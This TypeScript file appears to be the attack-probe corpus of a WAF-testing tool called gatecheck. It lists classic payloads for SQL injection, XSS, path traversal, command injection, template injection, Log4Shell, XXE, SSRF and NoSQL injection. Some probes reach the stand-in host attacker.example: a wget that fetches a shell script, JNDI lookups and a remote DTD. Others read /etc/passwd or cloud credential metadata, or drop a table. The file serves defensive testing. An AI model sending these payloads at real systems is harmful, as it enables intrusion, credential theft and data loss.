/**
 * The attack corpus, written for gatecheck: a handful of classic instances per category, the
 * kind every managed rule set (AWS managed rules, OWASP CRS at paranoia level 1) is meant to
 * stop. They are probes, not exploits: every host is `attacker.example` (RFC 2606, never
 * resolves) or an address that only means something inside the target's own network.
 *
 * A payload is text. Where a category's classic form is not a plain string, the payload says
 * how it travels instead: NoSQL operators live in a parameter's name (`q[$ne]=x`) or as a JSON
 * object (`{"$ne": null}`), not as the string value of `q`.
 */
import type { WafCategory } from '../../policy/types.js';

export type { WafCategory };

export interface AttackPayload {
  category: WafCategory;
  /** Short, stable name for reports: `union select`, `alg none`. */
  name: string;
  /** The payload as text: a query or form value, a header, a cookie, a path segment, a JSON string. */
  value: string;
  /** Query and form placements: this `name=value` pair instead of `q=<value>`. */
  pair?: { name: string; value: string };
  /** JSON placement: this value for `q` instead of the string `value`. */
  json?: unknown;
}

const HOST = 'attacker.example';

export const ATTACK_PAYLOADS: readonly AttackPayload[] = [
  // SQL injection: tautology, UNION, comment termination, time-based blind, stacked query.
  { category: 'sqli', name: 'tautology', value: "' OR '1'='1" },
  { category: 'sqli', name: 'union select', value: '1 UNION SELECT username, password FROM users--' },
  { category: 'sqli', name: 'comment termination', value: "admin'--" },
  { category: 'sqli', name: 'time-based blind', value: "1' AND SLEEP(5)-- -" },
  { category: 'sqli', name: 'stacked drop table', value: '1; DROP TABLE users--' },

  // Cross-site scripting: script tag, event handlers, javascript: URI, breaking out of an attribute.
  { category: 'xss', name: 'script tag', value: '<script>alert(1)</script>' },
  { category: 'xss', name: 'img onerror', value: '<img src=x onerror=alert(1)>' },
  { category: 'xss', name: 'svg onload', value: '<svg/onload=alert(document.domain)>' },
  { category: 'xss', name: 'javascript uri', value: 'javascript:alert(document.cookie)' },
  { category: 'xss', name: 'attribute breakout iframe', value: '"><iframe src=javascript:alert(1)>' },

  // Path traversal and local file inclusion.
  { category: 'traversal', name: 'dot-dot-slash passwd', value: '../../../../etc/passwd' },
  { category: 'traversal', name: 'backslash win.ini', value: '..\\..\\..\\windows\\win.ini' },
  { category: 'traversal', name: 'filter-evading dots', value: '....//....//....//etc/passwd' },
  { category: 'traversal', name: 'proc self environ', value: '/proc/self/environ' },
  { category: 'traversal', name: 'overlong utf-8 slash', value: '..%c0%af..%c0%af..%c0%afetc/passwd' },

  // OS command injection: separators, substitution, pipes.
  { category: 'cmdi', name: 'semicolon cat', value: '; cat /etc/passwd' },
  { category: 'cmdi', name: 'pipe id', value: '| id' },
  { category: 'cmdi', name: 'dollar substitution', value: '$(whoami)' },
  { category: 'cmdi', name: 'backtick substitution', value: '`uname -a`' },
  { category: 'cmdi', name: 'and-and wget', value: `&& wget http://${HOST}/x.sh -O /tmp/x.sh` },

  // Server-side template injection: Jinja2, Spring EL, ERB, Freemarker-style and object-graph walks.
  { category: 'ssti', name: 'jinja arithmetic', value: '{{7*7}}' },
  { category: 'ssti', name: 'expression language', value: '${7*7}' },
  { category: 'ssti', name: 'erb arithmetic', value: '<%= 7*7 %>' },
  { category: 'ssti', name: 'jinja globals popen', value: "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}" },
  { category: 'ssti', name: 'spring runtime exec', value: "${T(java.lang.Runtime).getRuntime().exec('id')}" },

  // Log4Shell (CVE-2021-44228): the lookup and the obfuscations seen in the wild.
  { category: 'log4shell', name: 'jndi ldap', value: `\${jndi:ldap://${HOST}/a}` },
  { category: 'log4shell', name: 'jndi dns', value: `\${jndi:dns://${HOST}/a}` },
  { category: 'log4shell', name: 'lower-case lookups', value: `\${\${lower:j}ndi:\${lower:l}dap://${HOST}/a}` },
  { category: 'log4shell', name: 'default-value lookups', value: `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://${HOST}/a}` },
  {
    category: 'log4shell',
    name: 'env default lookups',
    value: `\${\${env:NaN:-j}ndi\${env:NaN:-:}\${env:NaN:-l}dap\${env:NaN:-:}//${HOST}/a}`,
  },

  // XML external entities: file and remote entities, parameter entities, XInclude, entity expansion.
  {
    category: 'xxe',
    name: 'file entity',
    value: '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
  },
  {
    category: 'xxe',
    name: 'remote parameter entity',
    value: `<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://${HOST}/evil.dtd"> %xxe;]><foo/>`,
  },
  {
    category: 'xxe',
    name: 'php filter entity',
    value: '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><foo>&xxe;</foo>',
  },
  {
    category: 'xxe',
    name: 'xinclude',
    value: '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></foo>',
  },
  {
    category: 'xxe',
    name: 'entity expansion',
    value: '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
  },

  // Server-side request forgery: cloud metadata, loopback services, odd schemes and IP spellings.
  { category: 'ssrf', name: 'aws metadata', value: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' },
  { category: 'ssrf', name: 'gcp metadata', value: 'http://metadata.google.internal/computeMetadata/v1/instance/' },
  { category: 'ssrf', name: 'localhost admin', value: 'http://localhost:8080/admin' },
  { category: 'ssrf', name: 'gopher redis', value: 'gopher://127.0.0.1:6379/_INFO' },
  { category: 'ssrf', name: 'decimal metadata ip', value: 'http://2852039166/latest/meta-data/' },

  // NoSQL injection (MongoDB operators, server-side JavaScript).
  { category: 'nosqli', name: 'ne operator', value: '{"$ne": null}', pair: { name: 'q[$ne]', value: 'gatecheck' }, json: { $ne: null } },
  { category: 'nosqli', name: 'gt operator', value: '{"$gt": ""}', pair: { name: 'q[$gt]', value: '' }, json: { $gt: '' } },
  {
    category: 'nosqli',
    name: 'where sleep',
    value: '{"$where": "sleep(5000)"}',
    pair: { name: 'q[$where]', value: 'sleep(5000)' },
    json: { $where: 'sleep(5000)' },
  },
  {
    category: 'nosqli',
    name: 'regex match-all',
    value: '{"$regex": ".*"}',
    pair: { name: 'q[$regex]', value: '.*' },
    json: { $regex: '.*' },
  },
  {
    category: 'nosqli',
    name: 'where javascript',
    value: "'; return this.password != ''; var x='",
    json: { $where: "this.password != ''" },
  },
];

/** Payloads of one category, in corpus order. */
export function payloadsOf(category: WafCategory): AttackPayload[] {
  return ATTACK_PAYLOADS.filter((p) => p.category === category);
}
